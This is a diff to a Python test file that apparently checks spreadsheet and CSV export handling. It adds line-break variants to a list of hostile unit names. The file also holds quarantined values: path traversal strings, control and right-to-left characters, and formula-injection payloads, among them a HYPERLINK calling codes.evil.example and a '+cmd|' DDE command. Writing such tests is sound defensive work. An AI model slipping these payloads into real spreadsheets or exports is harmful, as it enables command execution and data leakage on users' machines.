@@ -15,7 +15,8 @@ from .hostile import (FORMULAS, MONTH, aos, all_text, csv_cells, read_csv, unsaf
 
 BIG = 40_000  # more than an xlsx cell holds
 UNITS = ["VC1", "vc1", *FORMULAS, "../x", "a/b", "..", ".hidden", "a\\b", "VC\u202eRTL", "VC\x01ctl",
-         "VC\x00nul", "U" * BIG]
+         "VC\x00nul", "U" * BIG,
+         "VC\nnl", "VC\r\ncrlf", "VC\"q,c", "VC\u2028ls"]  # line breaks: the unit files are cut by line
 # Quarantined cell values: each carries a marker that must appear nowhere outside the database.
 CODES = [f'=HYPERLINK("http://codes.evil.example/?QMARK1","click")', "+cmd|'/c QMARK2'!A0",
          "@SUM(QMARK3)", "-2+QMARK4", "R63\x01QMARK5", "R\u202eQMARK6", "R63\x00QMARK7",
